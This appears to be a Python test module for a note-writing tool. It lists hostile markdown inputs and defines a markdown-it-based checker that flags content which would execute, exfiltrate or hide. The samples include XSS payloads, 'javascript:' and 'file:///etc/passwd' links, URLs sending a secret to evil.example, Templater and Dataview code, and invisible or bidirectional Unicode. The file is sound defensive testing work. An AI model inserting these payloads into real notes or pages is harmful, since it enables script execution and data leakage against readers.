"""Texts of a stranger, and an independent reader that says what in a note would run, leave it, or hide.

The reader is markdown-it, which shares no code with the package; what plugins look for is stated here once more, in
words of its own.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.marks import BEGIN, END

SECRET = "4217"
"""What the figures in hostile texts show: it must stand in no address."""

_F = "{{ 4217 }}"

TEMPLATER = [
    "<% tp.file.delete() %>",
    "<%* await tp.user.steal() %>",
    r"\<% tp.x %>",
    r"\\<% tp.x %>",
    "<\\% x <% y %>",
    "`<% tp.x %>`",
    "``<% tp.x %> ` ``",
    "```\n<%* tp.x %>\n```",
    "~~~text\n<% tp.x %>\n~~~",
    "    <% tp.x %>",
    "$$<% tp.x %>$$",
    "$$a <%* b$$",
    "[<% tp.x %>](https://x.org)",
    "[a](<<% tp.x %>>)",
    '[a](https://x.org "<% tp.x %>")',
    "[[Rotation#<% tp.x %>]]",
    "[[Rotation|<% tp.x %>]]",
    "[[#<% tp.x %>]]",
    "![[pic.png|<% tp.x %>]]",
    "![<% tp.x %>](pic.png)",
    "==<% tp.x %>==",
    "**<**% tp.x %>",
    "<{{ '% tp.x %' }}>",
    "<{{ '%* tp.x %' }}>",
    "{{ '<' }}% tp.x %>",
    "{{ '<' }}{{ '% tp.x %' }}>",
    "<{{ '' }}% tp.x %>",
    "{{ '<%' }} tp.x {{ '%>' }}",
    "`<{{ '%' }} x %>`",
    "```\n<{{ '% x' }} %>\n```",
    "$$<{{ '% x' }} %>$$",
    "\\{{ '<% x %>' }}",
    "&lt;% tp.x %>",
    "&#60;% tp.x %>",
    "<\u200b% tp.x %>",
    "<\u2060% tp.x %>",
    "<\ufeff% tp.x %>",
    "<\u00ad% tp.x %>",
    "<\u202e% tp.x %>",
    "<\ue000% x %>",
    "<\ufdd1\ufdd2\ufddc% x %>",
    "- <% a %>\n- <% b %>",
    "> <% a %>",
]
DATAVIEW = [
    "`= this.file.name`",
    "`=1+1`",
    "` = 1+1`",
    "``= `a` ``",
    "`$= dv.pages().length`",
    "`$=dv.x`",
    "`{{ '=1+1' }}`",
    "`{{ '=' }}1+1`",
    "`{{ '$' }}= dv.x`",
    "`$\n= dv.x`",
    "`\n= 1+1`",
    "{{ '`' }}= 1+1`",
    "`= 1+1{{ '`' }}",
    "\\`= 1+1`",
    "\\\\`= 1+1`",
    "{{ '' }}`= 1+1`",
    "``\n`= 1+1`",
    "`dv: 1+1`",
    "`dv= 1+1`",
    "```dataview\nTABLE file.name\n```",
    "```dataviewjs\ndv.span(1)\n```",
    "```DataviewJS\ndv.span(1)\n```",
    "``` dataviewjs\ndv.span(1)\n```",
    "````dataviewjs\ndv.span(1)\n````",
    "~~~dataviewjs\ndv.span(1)\n~~~",
    "~~~ dataviewjs x\ndv.span(1)\n~~~",
    "> ```dataviewjs\n> dv.span(1)\n> ```",
    ">```dataviewjs\n>dv.span(1)",
    "> > ~~~dataviewjs\n> > dv.span(1)\n> > ~~~",
    "- ```dataviewjs\n  dv.span(1)\n  ```",
    "- - ```dataviewjs\n    dv.span(1)\n    ```",
    "1. a\n\n   ~~~dataviewjs\n   dv.span(1)\n   ~~~",
    "-\t```dataviewjs\n\tdv.span(1)\n\t```",
    "   ```dataviewjs\n   dv.span(1)\n   ```",
    "```dataviewjs\nno end",
    "```text\n```\n```dataviewjs\nx\n```",
    "```a`b\n```dataviewjs\nx\n```",
    "``{{ '`dataviewjs' }}\nx\n```",
    "```{{ 'dataviewjs' }}\nx\n```",
    "```data{{ 'viewjs' }}\nx\n```",
    "~~{{ '~dataviewjs' }}\nx\n~~~",
    "~~{{ '' }}~dataviewjs\nx\n~~~",
    "{{ '~~~dataviewjs' }}\nx\n~~~",
    "```&#100;ataviewjs\nx\n```",
    "```\\dataviewjs\nx\n```",
    "```text dataviewjs\nx\n```",
    "key:: value",
    "[key:: value]",
    "(key:: value)",
    "key:{{ ':' }} value",
    "key{{ '::' }} value",
    "key\\:: value",
]
PLUGINS = [
    f"```{language}\nx\n```"
    for language in (
        *("js-engine", "run-python", "run-js", "run-shell", "python", "js", "javascript", "bash", "button"),
        *(
            "meta-bind",
            "meta-bind-button",
            "meta-bind-embed",
            "tasks",
            "chart",
            "query",
            "leaflet",
            "excalidraw",
            "html",
            "base",
        ),
        *("mermaid", "tracker", "datacorejsx", "customjs", "templater", "{python}", "{.dataviewjs}"),
        *("ad-note", "embed", "iframe", "cmdout", "plantuml", "dot", "abc", "timeline", "kanban"),
        *("folder-overview", "dynamic-embed"),
    )
]
PLUGINS += [
    "~~~run-python\nx\n~~~",
    "> ~~~js-engine\n> x\n> ~~~",
    "`INPUT[toggle:done]`",
    "`VIEW[{a}]`",
    "`BUTTON[go]`",
    "`INPUT{{ '[toggle:a]' }}`",
    "`button-go`",
    "`dice: 1d6`",
    "`{js} alert(1)`",
    "- [ ] buy",
    "- [x] buy",
    "* [ ] buy",
    "1. [ ] buy",
    "> - [ ] buy",
    "- - [ ] buy",
    "- > 1) [/] buy",
    "- [{{ 'x' }}] buy",
    "- {{ '[ ] buy' }}",
    "{{ '- [ ] buy' }}",
    "%% tv:begin summary %%",
    "%% tv:end summary 00000000 %%",
    "a\n\n%% tv:end verdict 00000000 %%\n\nb",
    "$$\n%% tv:end verdict 00000000 %%\n$$",
    "```\n%% tv:end verdict 00000000 %%\n```",
    "%{{ '%' }} hidden %%",
    "{{ '%' }}% hidden %%",
    "5%{{ '%' }}",
    "100%% and 5%%",
    "%%\nhidden\n%%",
    "#buy #sell/now",
    "#{{ 'tag' }}",
    "{{ '#' }}tag",
    "a\n#tag",
    "---\ntitle: x\n---\n",
    "Title\n---",
    "{{ '---' }}\n",
    "^block-id",
    "[^1] and\n\n[^1]: a note",
    "==a== and ==b",
    "tp.file.cursor()",
]
HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onmouseover=alert(1)>",
    "<br onload=alert(1)>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href=javascript:alert(1)>x</a>",
    "<code>= 1+1</code>",
    "<pre><code class=language-dataviewjs>x</code></pre>",
    "<div>\n\n`x`\n\n</div>",
    "<!-- x -->",
    "<!doctype html>",
    "<?php x ?>",
    "<![CDATA[x]]>",
    "<{{ 'script>alert(1)</script' }}>",
    "<{{ 'img src=x onerror=alert(1)' }}>",
    "{{ '<' }}script>",
    "{{ '<script>' }}",
    "<{{ '' }}script>",
    "<{{ '/' }}b onclick=x>",
    "\\{{ '<script>' }}",
    "<b>\n`<img src=x onerror=alert(1)>`",
    "# h\n<b>\n`<img src=x onerror=alert(1)>`",
    "<b>\n```\n<img src=x>\n```",
    "- `a\n- <img src=x onerror=alert(1)>` b",
    "> `a\n\n> <img src=x onerror=alert(1)>` b",
    "`a\n# <img src=x onerror=alert(1)>` b",
    "| a | b |\n| - | - |\n| `x | <img src=x onerror=alert(1)>` |",
    "a | b\n-|-\n`x | <script>` ",
    "$$\n\n<img src=x onerror=alert(1)>\n\n$$",
    "- $$a\n- <img src=x onerror=alert(1)>$$",
    "$$<img src=x onerror=alert(1)>$$",
    'x](u "<img src=x onerror=alert(1)>")',
    "x](<img src=x onerror=alert(1)>)",
    "x](<b onmouseover=alert(1)>)",
    "- ```\n <img src=x onerror=alert(1)>\n ```",
    "1. ```\n  <img src=x onerror=alert(1)>\n  ```",
    "~~~\n<b>\n~~~\n<script>",
    "    code\n<script>",
    "&lt;script&gt;",
    "&#x3c;script>",
    "<\u200dscript>",
    "<sc\u00adript>",
    "<\u2028script>",
    r"\\<script>",
    "`<script>",
    "``<script>`",
    "<b><i></b>",
    "<mailto:a@b.example onclick=x>",
]
LINKS = [
    "[a](javascript:alert(1))",
    "[a](JavaScript:alert(1))",
    "[a]( javascript:alert(1) )",
    "[a](\njavascript:alert(1)\n)",
    "[a](<javascript:alert(1)>)",
    "[a](java&#115;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](javascript%3Aalert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](data:text/html,x)",
    "[a](file:///etc/passwd)",
    "[a](obsidian://open?vault=x)",
    "[a](\\\\evil.example\\share)",
    "[a](//evil.example/x)",
    "[a](vbscript:x)",
    "[a](zotero://x)",
    "[a](javascript:x 'title')",
    "[a](javascript:x (title))",
    "[a](((javascript:x)))",
    "<javascript:alert(1)>",
    "<obsidian://open?vault=x>",
    "<file:///etc/passwd>",
    "obsidian://open?vault=x",
    "file:///etc/passwd",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]:\njavascript:alert(1)\n\n[b][a]",
    "[a]: <javascript:x> 'y'\n\n[a][]",
    "> [a]: javascript:x\n\n[a]",
    "- [a]: javascript:x\n\n[a]",
    "[a\\]]: javascript:x\n\n[a\\]]",
    "[a]{{ ':' }} javascript:x\n\n[a]",
    "[a{{ ']:' }} javascript:x\n\n[a]",
    "[a]({{ 'javascript:alert(1)' }})",
    "[a]{{ '(javascript:alert(1))' }}",
    "[a{{ '](javascript:alert(1))' }}",
    "[a](java{{ 'script:x' }})",
    "[[Rotation]](javascript:x)",
    "[`a`](javascript:x)",
    "[a][b](javascript:x)",
    f"https://evil.example/?q={_F}",
    f"https://evil.example/{_F}/x",
    f"HTTPS://evil.example/?q={_F}",
    f"<https://evil.example/?q={_F}>",
    f"[a](https://evil.example/?q={_F})",
    f"[a](<https://evil.example/?q={_F}>)",
    f"[{_F}](https://evil.example/?q={_F})",
    f"https://evil.example/(x{_F})",
    f"https://evil.example/**{_F}**",
    f"https:{{{{ '//evil.example/' }}}}{_F}",
    f"{{{{ 'https://evil.example/' }}}}{_F}",
    f"ht{{{{ 'tps://evil.example/' }}}}{_F}",
    f"https:/{{{{ '/evil.example/' }}}}{_F}",
    f"www.evil.example/{_F}",
    f"mail-{_F}@evil.example",
    f"https://{_F}.evil.example/",
    f"![a](https://evil.example/?q={_F})",
    "![a](https://evil.example/x.png)",
    "![a](http://evil.example/x.png)",
    "![a|100](https://evil.example/x.png)",
    "![](//evil.example/x.png)",
    "![a](<https://evil.example/x.png>)",
    '![a](https://evil.example/x.png "t")',
    "[![a](https://evil.example/x.png)](https://x.org)",
    "![a [b](https://x.org)](https://evil.example/x.png)",
    "![a][b]\n\n[b]: https://evil.example/x.png",
    "![b]\n\n[b]: https://evil.example/x.png",
    "!{{ '[a](https://evil.example/x.png)' }}",
    "{{ '!' }}[a](https://evil.example/x.png)",
    "!{{ '' }}[a](https://evil.example/x.png)",
    "![a](data:image/svg+xml,x)",
    "![a](file:///etc/x.png)",
    "![a](\\\\evil.example\\x.png)",
    "![[https://evil.example/x.png]]",
    f"![[{{{{ 'https://evil.example/' }}}}{_F}]]",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$$a$$\\href{x}$$b$$",
    "$\\beta$\\href{javascript:x}{y}$\\beta$",
    "$$<% tp.x %>$$\\href{x}$$<% tp.x %>$$",
    "$$a$$ \\href{javascript:x} $x$ \\url{x} $y$",
    "$x$\\includegraphics{https://evil.example/a.png}$y$",
    "$x^2$ \\htmlClass{a}{b} $y$",
    "$\\text{\\href{javascript:x}{y}}$",
    "$\\class{a}{b}$",
    "$\\require{html}$",
    "$= dv.x$",
    "$<% tp.x %>$",
    "$\\beta$ costs $5 \\href{javascript:x} and $6",
    "a $\\alpha\n\\href{x} $b$",
    "$$\\style{background:url(https://evil.example/x)}{x}$$",
    "$$\\bbox[background:url(https://evil.example/x)]{x}$$",
    "$$\\def\\a{\\href}\\a{javascript:x}{y}$$",
    "$$\\h{{ 'ref' }}{javascript:x}{y}$$",
    "$$\\require{html}\\cssId{a}{x}$$",
    "$$\\begin{CD} a \\end{CD}$$",
]
HIDDEN = [
    "a\u202ebc\u202c",
    "a\u2066b\u2069",
    "a\u200bb",
    "a\U000e0041\U000e0042b",
    "a\ufff9b\ufffac\ufffb",
    "a\u2028b\u2029c",
    "a{{ '\u202eb' }}",
    "&#x202e;abc",
    "&#8238;abc",
    "&#27;[31m",
    "\ufdd0\ufdd1\ufdd2\ufddc",
    "\ue0000\ue001",
    "a\nb",
    "a\x85b",
    "a\ufeffb",
]
TEXTS = [*TEMPLATER, *DATAVIEW, *PLUGINS, *HTML, *LINKS, *HIDDEN]

_HARMLESS_HTML = re.compile(r"</?(?:br|sub|sup|kbd|mark|u|s|b|i|em|strong|small|del|ins) ?/?>")
_DATA = {"", "text", "txt", "plain", "plaintext", "yaml", "yml", "json", "toml", "ini", "diff"}
_RUN_INLINE = re.compile(r"\s*(?:=|\$=|\{|[A-Z]+\[|button-|dice:|dv[:.]|dv=(?!=)|tp\.|js )")
_SEEN_BY_NOBODY = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\u200b\u2060\ufeff\ufff9-\ufffb\U000e0000-\U000e007f]"
)
_MARKER = re.compile(rf"^(?:{BEGIN.pattern}|{END.pattern})$", re.MULTILINE)
_MACRO = re.compile(r"\\(?:href|style|bbox|def|require|cssId|class|begin\{CD)")


def acting(markdown: str, *, tags: frozenset[str] = frozenset()) -> list[str]:
    """Return everything in a note that would run, leave the note, or hide, each in words.

    Args:
        markdown: The body of a note.
        tags: Tags that may act.
    """
    found = ["Templater" for _ in re.finditer("<%", markdown)]
    found += [f"hidden {char!r}" for char in _SEEN_BY_NOBODY.findall(markdown)]
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).disable("text_join")
    setattr(parser, "validateLink", lambda _: True)  # noqa: B010 - it would leave out the very links that are looked for
    known: dict[str, dict[str, object]] = {}
    before = ["", ""]
    for token in parser.parse(_MARKER.sub("", markdown), known):
        found += _in_block(token, tags)
        if before == ["list_item_open", "paragraph_open"] and re.match(r"\[[^\]\n]\](?:\s|$)", token.content):
            found.append(f"task {token.content}")
        before = [before[1], token.type]
    return found + [f"reference {name}" for name in known.get("references", {})]


def _in_block(token: Token, tags: frozenset[str]) -> Iterator[str]:
    if token.type == "fence" and (token.info.split() or [""])[0].lower() not in _DATA:
        yield f"fence {token.info}"
    if token.type == "html_block" and not _HARMLESS_HTML.fullmatch(token.content.strip()):
        yield f"HTML {token.content}"
    if token.type != "inline":
        return
    bare = token.content
    for child in token.children or ():
        if child.type == "code_inline":
            inner = r"\s+".join(map(re.escape, child.content.split()))
            bare = re.sub(rf"{child.markup}\s*{inner}\s*{child.markup}", "`", bare, count=1)
            if _RUN_INLINE.match(child.content):
                yield f"inline code {child.content}"
        yield from _in_line(child)
    yield from _in_bare(bare, tags)


def _in_line(child: Token) -> Iterator[str]:
    if child.type == "html_inline" and not _HARMLESS_HTML.fullmatch(child.content):
        yield f"HTML {child.content}"
    href = str(child.attrGet("href") or "") if child.type == "link_open" else ""
    source = str(child.attrGet("src") or "") if child.type == "image" else ""
    if href and (SECRET in href or not re.match(r"https?://|mailto:|[^:\\]*$", href) or href.startswith("//")):
        yield f"link to {href}"
    if source and re.search(r":|\\|^//|%5C", source):
        yield f"picture {source}"
    if child.type == "text":
        for address in re.findall(r"(?i)\b[a-z][a-z0-9+.-]*://\S*|\bwww\.\S+", child.content):
            if SECRET in address or not re.match(r"(?i)https?:|www", address):
                yield f"address {address}"
    for inner in child.children or ():
        yield from _in_line(inner)


def _in_bare(text: str, tags: frozenset[str]) -> Iterator[str]:
    """Yield what plugins and Obsidian find in the source of a paragraph, its code left out."""
    for math in re.findall(r"(?s)(?<!\\)\$\$?(.+?)(?<!\\)\$", text):
        if _MACRO.search(math.replace(r"\\", "")):
            yield f"math {math}"
    text = re.sub(r"(?s)(?<!\\)((?:\\\\)*)\$\$.+?(?<!\\)\$\$", r"\1 math ", text)
    links = re.findall(r"(?<!\\)!\[\[([^\[\]]*)\]\]", text)
    yield from (f"embed {link}" for link in links if "://" in link.partition("|")[0])
    text = re.sub(
        r"\[\[[^\[\]\n]*\]\]|\]\((?:<[^>]*>|(?:[^()\s]|\([^()\s]*\))*)(?: \"[^\"]*\")?\)|<?https?://[^\s<>]*",
        " link ",
        text,
    )
    plain = re.sub(r"\\[^\w\s]", "\\\\", text)
    yield from (f"plugin {sign}" for sign in ("%%", "{{", "{%") if sign in plain)
    yield from (f"field {field}" for field in re.findall(r"[^\s\\]*::", plain))
    yield from (f"tag {tag}" for tag in re.findall(r"(?<![\w&%])#([\w/-]+)", plain) if tag not in tags)
